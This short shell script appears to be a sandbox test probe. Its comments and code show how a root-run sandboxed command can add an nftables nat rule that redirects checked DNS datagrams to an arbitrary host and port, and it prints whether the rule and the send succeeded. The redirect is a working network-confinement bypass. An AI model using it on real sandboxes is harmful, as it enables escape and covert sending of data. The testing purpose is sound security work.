#!/bin/sh
# Attack on [net] udp = "dns" (and allow_hosts) by root: the sandbox keeps
# root's capabilities, CAP_NET_ADMIN included, so the command can add a
# netfilter rule in the host's network namespace that rewrites where the
# broker's checked datagrams go. The broker sees a send to the nameserver,
# port 53, and performs it; the nat OUTPUT hook then sends it to HOST:PORT.
#
#   udp_nat_redirect.sh NAMESERVER HOST PORT MARKER
#
# Prints probe-style lines. Removes its table before it exits.
ns=$1 host=$2 port=$3 marker=$4
table=landlockd_attack_$marker
if nft -f - <<NFT 2>/dev/null
table ip $table {
  chain out {
    type nat hook output priority -100;
    ip daddr $ns udp dport 53 dnat to $host:$port
  }
}
NFT
then echo "nft add: OK"; else echo "nft add: EPERM"; fi
/usr/bin/python3 - "$ns" "$marker" <<'PY'
import errno, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(sys.argv[2].encode(), (sys.argv[1], 53))
    print("sendto: OK")
except OSError as e:
    print("sendto: " + errno.errorcode[e.errno])
PY
nft delete table ip "$table" 2>/dev/null
exit 0
